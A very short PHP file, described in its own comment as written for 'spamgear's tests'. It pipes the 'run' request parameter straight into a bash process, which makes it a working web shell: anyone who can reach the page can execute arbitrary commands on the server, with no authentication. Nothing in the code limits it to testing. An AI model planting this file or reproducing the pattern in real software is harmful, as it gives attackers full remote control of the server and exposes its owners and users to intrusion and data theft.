<?php
// Written for spamgear's tests: the request's commands written to a shell.
$sh = popen("bash", "w");
fputs($sh, $_REQUEST['run'] . "\n");
pclose($sh);
